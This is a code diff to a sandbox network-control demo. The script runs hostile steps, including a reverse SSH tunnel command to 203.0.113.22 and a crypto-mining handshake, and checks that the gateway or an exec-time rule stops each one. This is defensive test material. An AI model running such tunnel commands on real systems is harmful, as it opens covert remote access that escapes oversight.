@@ -46,7 +46,9 @@ STEPS = [
      "the gateway reads the first line, sees mining.subscribe, and refuses"),
     ("open a reverse SSH tunnel", ("ssh -o StrictHostKeyChecking=no -o BatchMode=yes "
      "-o ConnectTimeout=3 -N -R 2222:localhost:22 root@203.0.113.22"),
-     "SSH to an address not on the allow list: reset before anything is dialled"),
+     "an ssh client (known by its binary, whatever its name) asked to forward a port is "
+     "stopped as it starts; had it connected, SSH to an address not on the allow list is "
+     "reset before anything is dialled"),
 ]
 
 
@@ -73,6 +75,9 @@ def chapter_network(console: Console, state_dir: str | None) -> int:
                 text = (result.stdout + result.stderr).strip()
                 if text:
                     body.add_row("output", escape(text[-300:]))
+                for verdict in result.verdicts:
+                    body.add_row("verdict", escape(f"{verdict.rule_id} ({verdict.action.value}):"
+                                                   f" {verdict.message}"))
                 for event in connects:
                     colour = "green" if event.get("net.decision") == "allow" else "red"
                     detail = escape(f"{event.get('net.app')} to {event.get('net.dst_ip')}:"
@@ -81,7 +86,10 @@ def chapter_network(console: Console, state_dir: str | None) -> int:
                     body.add_row("gateway", f"[{colour}]{event.get('net.decision')}[/] {detail}")
                 body.add_row("why", why)
                 expected = "allow" if n == 1 else "deny"
-                if not connects or any(e.get("net.decision") != expected for e in connects):
+                stopped_at_exec = n > 1 and not connects and any(
+                    v.rule_id == "tunnels.ssh_forward_exec" for v in result.verdicts)
+                if (not connects and not stopped_at_exec) or any(
+                        e.get("net.decision") != expected for e in connects):
                     failures += 1
                 console.print(Panel(body, title=f"step {n}: {title}", title_align="left",
                                     border_style="green" if expected == "allow" else "red"))
